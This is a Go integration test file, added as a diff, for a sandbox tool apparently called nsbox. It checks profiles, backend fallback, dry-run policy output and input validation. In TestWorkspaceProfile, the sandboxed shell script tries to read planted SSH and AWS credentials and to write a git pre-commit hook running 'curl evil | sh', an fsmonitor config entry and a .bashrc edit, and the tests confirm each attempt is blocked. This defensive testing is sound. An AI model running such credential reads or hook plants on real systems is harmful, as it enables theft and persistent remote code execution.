@@ -1,0 +1,456 @@
+package integration
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"errors"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+)
+
+// visibleDir returns a fresh directory owned by u under /var/tmp: unlike
+// /tmp (private in every sandbox) it is visible inside through the
+// read-only host root, as a real home directory is.
+func (u user) visibleDir(t *testing.T) string {
+	t.Helper()
+	base, err := os.MkdirTemp("/var/tmp", "nsbox-it-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(base) })
+	if err := os.Chmod(base, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if os.Getuid() == 0 {
+		if err := os.Chown(base, u.uid, u.gid); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return base
+}
+
+// mkdirs creates directories owned by u.
+func (u user) mkdirs(t *testing.T, dirs ...string) {
+	t.Helper()
+	for _, d := range dirs {
+		if err := os.MkdirAll(d, 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if os.Getuid() == 0 {
+			for p := d; p != "/" && p != "/var/tmp"; p = filepath.Dir(p) {
+				os.Lchown(p, u.uid, u.gid)
+				if filepath.Dir(p) == "/var/tmp" {
+					break
+				}
+			}
+		}
+	}
+}
+
+// runAs runs any program as u (as u.run does for nsbox).
+func (u user) runAs(t *testing.T, o *runOpts, name string, args ...string) result {
+	t.Helper()
+	if o == nil {
+		o = &runOpts{}
+	}
+	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
+	defer cancel()
+	cmd := exec.CommandContext(ctx, name, args...)
+	cmd.Env = append([]string{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HOME=" + u.home(), "LANG=C.UTF-8"}, o.env...)
+	cmd.Dir = o.dir
+	if cmd.Dir == "" {
+		cmd.Dir = "/"
+	}
+	var stdout, stderr bytes.Buffer
+	cmd.Stdout, cmd.Stderr = &stdout, &stderr
+	if u.switchTo {
+		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(u.uid), Gid: uint32(u.gid), Groups: []uint32{}}}
+	}
+	err := cmd.Run()
+	code := 0
+	var ee *exec.ExitError
+	switch {
+	case errors.As(err, &ee):
+		code = ee.ExitCode()
+	case err != nil:
+		t.Fatalf("running %s %v: %v", name, args, err)
+	}
+	return result{stdout: stdout.String(), stderr: stderr.String(), code: code}
+}
+
+func oneLine(t *testing.T, r result) {
+	t.Helper()
+	if strings.Contains(r.stderr, "panic") || strings.Count(strings.TrimSpace(r.stderr), "\n") > 0 {
+		t.Errorf("error is not one clear line: %q", r.stderr)
+	}
+}
+
+func exists(p string) bool {
+	_, err := os.Lstat(p)
+	return err == nil
+}
+
+// Under the default workspace profile: secrets read as empty, .git hooks and
+// config cannot be created or changed, and the workspace is writable.
+func TestWorkspaceProfile(t *testing.T) {
+	eachUser(t, func(t *testing.T, u user) {
+		base := u.visibleDir(t)
+		home := filepath.Join(base, "home")
+		ws := filepath.Join(base, "proj")
+		u.mkdirs(t, filepath.Join(home, ".ssh"), filepath.Join(home, ".aws"), filepath.Join(ws, ".git"), filepath.Join(ws, "sub"))
+		u.writeFile(t, filepath.Join(home, ".ssh", "id_rsa"), "-----BEGIN OPENSSH PRIVATE KEY----- nsbox-it-key\n", 0o600)
+		u.writeFile(t, filepath.Join(home, ".aws", "credentials"), "aws_secret_access_key=nsbox-it-aws\n", 0o600)
+		u.writeFile(t, filepath.Join(ws, ".env"), "API_KEY=nsbox-it-dotenv\n", 0o600)
+		u.writeFile(t, filepath.Join(ws, "sub", ".env.local"), "API_KEY=nsbox-it-dotenv-sub\n", 0o600)
+		o := &runOpts{dir: ws, env: []string{"HOME=" + home}}
+		r := u.sh(t, o, nil, `
+cat ~/.ssh/id_rsa 2>&1; ls -A ~/.ssh; cat ~/.aws/credentials 2>&1
+echo "env=[$(cat .env)] sub=[$(cat sub/.env.local)]"
+mkdir -p .git/hooks 2>/dev/null; (echo 'curl evil | sh' > .git/hooks/pre-commit) 2>/dev/null && echo HOOK-WRITTEN
+(echo '[core] fsmonitor = evil' >> .git/config) 2>/dev/null && echo CONFIG-WRITTEN
+mv .git .git-moved 2>/dev/null && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit && echo GIT-REPLACED
+(echo x >> ~/.bashrc) 2>/dev/null && echo RC-WRITTEN
+echo work > out.txt && echo ws-ok`)
+		expectCode(t, r, 0)
+		for _, leak := range []string{"nsbox-it-key", "nsbox-it-aws", "nsbox-it-dotenv", "HOOK-WRITTEN", "CONFIG-WRITTEN", "GIT-REPLACED", "RC-WRITTEN"} {
+			if strings.Contains(r.stdout, leak) {
+				t.Errorf("%s: %q", leak, r.stdout)
+			}
+		}
+		if !strings.Contains(r.stdout, "env=[] sub=[]") || !strings.Contains(r.stdout, "ws-ok") {
+			t.Fatalf("stdout %q stderr %q", r.stdout, r.stderr)
+		}
+		if b, err := os.ReadFile(filepath.Join(ws, "out.txt")); err != nil || string(b) != "work\n" {
+			t.Fatalf("workspace write not on the host: %q %v", b, err)
+		}
+		for _, p := range []string{".git/hooks/pre-commit", ".git-moved"} {
+			if exists(filepath.Join(ws, p)) {
+				t.Fatalf("%s exists on the host", p)
+			}
+		}
+		// The empty placeholders the sandbox needed are gone again.
+		for _, p := range []string{".git/hooks", ".git/config"} {
+			if exists(filepath.Join(ws, p)) {
+				t.Errorf("placeholder %s left behind", p)
+			}
+		}
+		if b, _ := os.ReadFile(filepath.Join(ws, ".env")); !strings.Contains(string(b), "nsbox-it-dotenv") {
+			t.Fatalf(".env on the host changed: %q", b)
+		}
+	})
+}
+
+// Without .git, the sandbox cannot create one (an attacker's `git init` with
+// hooks the user would later run); nothing is left behind.
+func TestWorkspaceWithoutGit(t *testing.T) {
+	eachUser(t, func(t *testing.T, u user) {
+		ws := filepath.Join(u.visibleDir(t), "proj")
+		u.mkdirs(t, ws)
+		r := u.sh(t, &runOpts{dir: ws}, nil, `
+mkdir -p .git/hooks 2>/dev/null && echo GIT-CREATED
+(echo 'gitdir: /tmp/evil' > .git) 2>/dev/null && echo GITFILE-CREATED
+echo ok > file && echo ws-ok`)
+		expectCode(t, r, 0)
+		if strings.Contains(r.stdout, "CREATED") || !strings.Contains(r.stdout, "ws-ok") {
+			t.Fatalf("stdout %q stderr %q", r.stdout, r.stderr)
+		}
+		if exists(filepath.Join(ws, ".git")) {
+			t.Fatalf(".git left in the workspace")
+		}
+		// The same for any writable directory, under any profile.
+		r = u.sh(t, nil, []string{"--profile", "strict", "--rw", ws}, "mkdir -p "+ws+"/.git/hooks 2>/dev/null && echo GIT-CREATED; echo done")
+		expectCode(t, r, 0)
+		if strings.Contains(r.stdout, "GIT-CREATED") || exists(filepath.Join(ws, ".git")) {
+			t.Fatalf("strict --rw: stdout %q stderr %q", r.stdout, r.stderr)
+		}
+	})
+}
+
+func TestBatchProfile(t *testing.T) {
+	eachUser(t, func(t *testing.T, u user) {
+		base := u.visibleDir(t)
+		home, in, out := filepath.Join(base, "home"), filepath.Join(base, "in"), filepath.Join(base, "out")
+		u.mkdirs(t, filepath.Join(home, ".config"), in, out)
+		u.writeFile(t, filepath.Join(home, "notes.txt"), "nsbox-it-home\n", 0o644)
+		u.writeFile(t, filepath.Join(in, "data.txt"), "input-data\n", 0o644)
+		o := &runOpts{dir: base, env: []string{"HOME=" + home}}
+		r := u.sh(t, o, []string{"--profile", "batch", "--input", in, "--output", out}, `
+cat /input/data.txt
+(echo x > /input/new) 2>/dev/null && echo INPUT-WRITTEN
+echo result > /output/result.txt
+echo "pwd=$(pwd) home=$(ls -A "$HOME" | wc -l) work=$(ls -A /work | wc -l)"
+cat "$HOME/notes.txt" 2>/dev/null
+echo tmp > /work/scratch && echo work-ok`)
+		expectCode(t, r, 0)
+		if !strings.Contains(r.stdout, "input-data") || strings.Contains(r.stdout, "INPUT-WRITTEN") ||
+			!strings.Contains(r.stdout, "pwd=/work home=0 work=0") || strings.Contains(r.stdout, "nsbox-it-home") || !strings.Contains(r.stdout, "work-ok") {
+			t.Fatalf("stdout %q stderr %q", r.stdout, r.stderr)
+		}
+		if b, err := os.ReadFile(filepath.Join(out, "result.txt")); err != nil || string(b) != "result\n" {
+			t.Fatalf("/output not written through: %q %v", b, err)
+		}
+		if exists(filepath.Join(in, "new")) || exists(filepath.Join(base, "work")) {
+			t.Fatal("batch wrote outside /output")
+		}
+	})
+}
+
+// unshareAvailable: util-linux unshare can make a user namespace as u.
+func unshareAvailable(t *testing.T, u user) {
+	t.Helper()
+	if _, err := exec.LookPath("unshare"); err != nil {
+		t.Skip("needs unshare (util-linux)")
+	}
+	if r := u.runAs(t, nil, "unshare", "-U", "-r", "true"); r.code != 0 {
+		t.Skipf("unshare -U -r does not work as %s here: %s", u.name, r.stderr)
+	}
+}
+
+// In a user namespace whose user.max_user_namespaces is 0, no sandbox can be
+// built: required and auto refuse with the exact reason; auto falls back
+// to backend none only when the config allows it, and says so.
+func TestBackendUnavailable(t *testing.T) {
+	bin := nsboxBin(t)
+	eachUser(t, func(t *testing.T, u user) {
+		unshareAvailable(t, u)
+		cfg := u.visibleDir(t)
+		noUserns := func(o *runOpts, args ...string) result {
+			script := `echo 0 > /proc/sys/user/max_user_namespaces && exec "$@"`
+			return u.runAs(t, o, "unshare", append([]string{"-U", "-r", "sh", "-c", script, "sh", bin}, args...)...)
+		}
+		env := []string{"XDG_CONFIG_HOME=" + cfg}
+		for _, mode := range []string{"required", "auto", "native"} {
+			r := noUserns(&runOpts{env: env}, "run", "--backend", mode, "--", "/bin/echo", "RAN")
+			want := "nsbox: sandboxing unavailable: user namespaces are disabled: user.max_user_namespaces is 0"
+			if r.code != 125 || !strings.HasPrefix(r.stderr, want) || strings.Contains(r.stdout, "RAN") {
+				t.Fatalf("--backend %s: code %d stdout %q stderr %q; want 125 and %q", mode, r.code, r.stdout, r.stderr, want)
+			}
+			oneLine(t, r)
+		}
+		u.mkdirs(t, filepath.Join(cfg, "nsbox"))
+		u.writeFile(t, filepath.Join(cfg, "nsbox", "config.toml"), "# allow running unsandboxed\nbackend_fallback = true\n", 0o644)
+		r := noUserns(&runOpts{env: env}, "run", "--", "/bin/sh", "-c", "echo RAN-$((1+1))")
+		if r.code != 0 || !strings.Contains(r.stdout, "RAN-2") || !strings.Contains(r.stderr, "nsbox: warning: sandboxing unavailable: user namespaces are disabled") ||
+			!strings.Contains(r.stderr, "falling back to backend none") || !strings.Contains(r.stderr, "WITHOUT a sandbox") {
+			t.Fatalf("auto with fallback: code %d stdout %q stderr %q", r.code, r.stdout, r.stderr)
+		}
+		// required ignores backend_fallback.
+		r = noUserns(&runOpts{env: env}, "run", "--backend", "required", "--", "/bin/echo", "RAN")
+		if r.code != 125 || strings.Contains(r.stdout, "RAN") {
+			t.Fatalf("required with fallback allowed: %d %q %q", r.code, r.stdout, r.stderr)
+		}
+		// Where sandboxing works, the fallback is never used.
+		r = u.run(t, &runOpts{env: env}, "run", "--json-status", "fd:1", "--", "/bin/true")
+		if r.code != 0 || !strings.Contains(r.stdout, `"backend":"native"`) || strings.Contains(r.stderr, "WITHOUT") {
+			t.Fatalf("fallback used with namespaces available: %q %q", r.stdout, r.stderr)
+		}
+	})
+}
+
+// Backend none is explicit, warned about on every run, and runs with the
+// policy's cleared environment.
+func TestBackendNone(t *testing.T) {
+	eachUser(t, func(t *testing.T, u user) {
+		r := u.run(t, &runOpts{env: []string{"NSBOX_IT_SECRET=hunter2"}}, "run", "--backend", "none", "--", "/bin/sh", "-c", "env; echo pid=$$")
+		expectCode(t, r, 0)
+		if !strings.Contains(r.stderr, "nsbox: warning: backend none: the command runs WITHOUT a sandbox") || strings.Contains(r.stdout, "hunter2") {
+			t.Fatalf("stdout %q stderr %q", r.stdout, r.stderr)
+		}
+	})
+}
+
+type dryRunOut struct {
+	Profile string `json:"profile"`
+	Policy  struct {
+		Mounts []struct {
+			Kind     string `json:"kind"`
+			Source   string `json:"source"`
+			Dest     string `json:"dest"`
+			ReadOnly bool   `json:"readonly"`
+		} `json:"mounts"`
+		Cwd    string `json:"cwd"`
+		Limits struct {
+			Memory int64 `json:"memory"`
+			Pids   int64 `json:"pids"`
+			Time   int64 `json:"time"`
+		} `json:"limits"`
+		Network string `json:"network"`
+	} `json:"policy"`
+	Plan []struct {
+		Kind, Dest, Why string
+	} `json:"mountPlan"`
+}
+
+func TestDryRunAndPrecedence(t *testing.T) {
+	eachUser(t, func(t *testing.T, u user) {
+		base := u.visibleDir(t)
+		ws := filepath.Join(base, "proj")
+		cfg := filepath.Join(base, "cfg")
+		u.mkdirs(t, ws, filepath.Join(cfg, "nsbox"))
+		status := filepath.Join(base, "status.jsonl")
+		o := &runOpts{dir: ws, env: []string{"XDG_CONFIG_HOME=" + cfg}}
+		r := u.run(t, o, "run", "--dry-run", "--json-status", status, "--", "/bin/sh", "-c", "touch "+ws+"/STARTED")
+		expectCode(t, r, 0)
+		var d dryRunOut
+		if err := json.Unmarshal([]byte(r.stdout), &d); err != nil {
+			t.Fatalf("dry-run output is not JSON: %v\n%s", err, r.stdout)
+		}
+		if exists(filepath.Join(ws, "STARTED")) || exists(status) && fileHas(status, "started") {
+			t.Fatal("--dry-run started the command")
+		}
+		if d.Profile != "workspace" || d.Policy.Cwd != ws || len(d.Policy.Mounts) == 0 || d.Policy.Mounts[0].Dest != ws || d.Policy.Mounts[0].ReadOnly {
+			t.Fatalf("dry-run policy: %+v", d)
+		}
+		if len(d.Plan) < 6 || d.Plan[0].Dest != "/" || d.Plan[2].Dest != "/proc" {
+			t.Fatalf("mount plan: %+v", d.Plan)
+		}
+		// config < profile < flags.
+		u.writeFile(t, filepath.Join(cfg, "nsbox", "config.toml"), "profile = \"network\"\n[limits]\nmemory = \"1G\"\n", 0o644)
+		d = dryRunOut{}
+		json.Unmarshal([]byte(u.run(t, o, "run", "--dry-run").stdout), &d)
+		if d.Profile != "network" || d.Policy.Network != "host" || d.Policy.Limits.Memory != 1<<30 {
+			t.Fatalf("config: %+v", d)
+		}
+		d = dryRunOut{}
+		json.Unmarshal([]byte(u.run(t, o, "run", "--dry-run", "--profile", "strict").stdout), &d)
+		if d.Profile != "strict" || d.Policy.Network != "none" || d.Policy.Limits.Memory != 512<<20 || d.Policy.Limits.Pids != 128 {
+			t.Fatalf("--profile over config: %+v", d)
+		}
+		d = dryRunOut{}
+		json.Unmarshal([]byte(u.run(t, o, "run", "--dry-run", "--profile", "strict", "--memory", "64M", "--net", "host").stdout), &d)
+		if d.Policy.Network != "host" || d.Policy.Limits.Memory != 64<<20 || d.Policy.Limits.Pids != 128 {
+			t.Fatalf("flags over profile: %+v", d)
+		}
+	})
+}
+
+func fileHas(path, s string) bool {
+	b, _ := os.ReadFile(path)
+	return strings.Contains(string(b), s)
+}
+
+// Bad values are refused with one line and exit 125 before anything starts.
+func TestBadPolicyInput(t *testing.T) {
+	eachUser(t, func(t *testing.T, u user) {
+		base := u.visibleDir(t)
+		big := filepath.Join(base, "big.toml")
+		u.writeFile(t, big, "description = \""+strings.Repeat("x", 10<<20)+"\"\n", 0o644)
+		garbage := filepath.Join(base, "garbage.toml")
+		u.writeFile(t, garbage, "\x7fELF\x02\x01\x01\x00\xff\xfe\x00\x00garbage\n", 0o644)
+		nul := filepath.Join(base, "nul.toml")
+		u.writeFile(t, nul, "description = \"nul\"\n[filesystem]\nrw = [\"/tmp/a\\u0000b\"]\n", 0o644)
+		unknown := filepath.Join(base, "unknown.toml")
+		u.writeFile(t, unknown, "description = \"x\"\n[limits]\nmemroy = \"1G\"\n", 0o644)
+		loop := filepath.Join(base, "loop")
+		os.Symlink("loop2", loop)
+		os.Symlink("loop", filepath.Join(base, "loop2"))
+		marker := filepath.Join(base, "STARTED")
+		cases := []struct {
+			args []string
+			want string
+		}{
+			{[]string{"--profile", big}, big + ": file is larger than"},
+			{[]string{"--profile", garbage}, garbage + ":1: not a text file"},
+			{[]string{"--profile", nul}, nul + ":3: filesystem.rw[0]: path contains a NUL byte"},
+			{[]string{"--profile", unknown}, unknown + ":3: limits.memroy: unknown key"},
+			{[]string{"--rw", loop}, "--rw: symlink loop"},
+			{[]string{"--memory", "0"}, "--memory: invalid size"},
+			{[]string{"--memory", "12XB"}, `--memory: invalid size "12XB"`},
+			{[]string{"--memory", "1M"}, "--memory: 1M is below 32 MiB"},
+			{[]string{"--pids", "-1"}, "--pids: -1: must be a positive number"},
+			{[]string{"--timeout", "abc"}, `--timeout: invalid duration "abc"`},
+			{[]string{"--seccomp", "nope"}, "--seccomp"},
+			{[]string{"--backend", "bogus"}, "want auto, required, native or none"},
+			{[]string{"--profile", "no-such-profile"}, `no profile "no-such-profile"`},
+			{[]string{"--workspace", "/"}, "--workspace: / cannot be the workspace"},
+		}
+		status := filepath.Join(base, "status.jsonl")
+		for _, c := range cases {
+			args := append([]string{"run", "--json-status", status}, c.args...)
+			args = append(args, "--", "/bin/sh", "-c", "touch "+marker)
+			r := u.run(t, nil, args...)
+			if r.code != 125 || !strings.Contains(r.stderr, c.want) {
+				t.Errorf("nsbox %v: code %d stderr %q, want 125 and %q", c.args, r.code, r.stderr, c.want)
+			}
+			oneLine(t, r)
+			if exists(marker) {
+				t.Fatalf("nsbox %v started the command", c.args)
+			}
+		}
+		if fileHas(status, `"started"`) || !fileHas(status, `"setup_error"`) {
+			b, _ := os.ReadFile(status)
+			t.Fatalf("status lines: %s", b)
+		}
+	})
+}
+
+// The default profile refuses to make the home directory writable.
+func TestWorkspaceRefusesHome(t *testing.T) {
+	eachUser(t, func(t *testing.T, u user) {
+		home := u.visibleDir(t)
+		r := u.run(t, &runOpts{dir: home, env: []string{"HOME=" + home}}, "run", "--", "/bin/true")
+		if r.code != 125 || !strings.Contains(r.stderr, "is your home directory and cannot be the workspace") {
+			t.Fatalf("code %d stderr %q", r.code, r.stderr)
+		}
+		oneLine(t, r)
+		// strict has no workspace: fine from $HOME.
+		expectCode(t, u.run(t, &runOpts{dir: home, env: []string{"HOME=" + home}}, "run", "--profile", "strict", "--", "/bin/true"), 0)
+	})
+}
+
+func TestLooseningFlagsWarn(t *testing.T) {
+	eachUser(t, func(t *testing.T, u user) {
+		for _, f := range []string{"--allow-userns", "--allow-privileged"} {
+			r := u.run(t, nil, "run", f, "--", "/bin/true")
+			if !strings.Contains(r.stderr, "nsbox: warning: "+f+": ") {
+				t.Errorf("%s: no warning: %q", f, r.stderr)
+			}
+		}
+	})
+}
+
+func TestProfilesCommand(t *testing.T) {
+	eachUser(t, func(t *testing.T, u user) {
+		cfg := u.visibleDir(t)
+		u.mkdirs(t, filepath.Join(cfg, "nsbox", "profiles"))
+		u.writeFile(t, filepath.Join(cfg, "nsbox", "profiles", "mine.toml"), "description = \"my profile\"\nextend = \"strict\"\n[limits]\npids = 64\n", 0o644)
+		o := &runOpts{env: []string{"XDG_CONFIG_HOME=" + cfg}}
+		r := u.run(t, o, "profiles", "list", "--json")
+		expectCode(t, r, 0)
+		var infos []struct{ Name, Description, Source, Error string }
+		if err := json.Unmarshal([]byte(r.stdout), &infos); err != nil {
+			t.Fatal(err)
+		}
+		names := map[string]string{}
+		for _, i := range infos {
+			if i.Error != "" || i.Description == "" {
+				t.Errorf("profile %s: %+v", i.Name, i)
+			}
+			names[i.Name] = i.Source
+		}
+		for _, n := range []string{"workspace", "strict", "network", "batch", "mine"} {
+			if names[n] == "" {
+				t.Errorf("profile %s not listed: %v", n, names)
+			}
+		}
+		r = u.run(t, o, "profiles", "show", "mine")
+		expectCode(t, r, 0)
+		var d dryRunOut
+		if err := json.Unmarshal([]byte(r.stdout), &d); err != nil {
+			t.Fatal(err)
+		}
+		if d.Policy.Limits.Pids != 64 || d.Policy.Limits.Memory != 512<<20 {
+			t.Fatalf("show mine: %s", r.stdout)
+		}
+		r = u.run(t, o, "profiles", "show", "nope")
+		if r.code != 125 {
+			t.Fatalf("show nope: %d %q", r.code, r.stderr)
+		}
+	})
+}
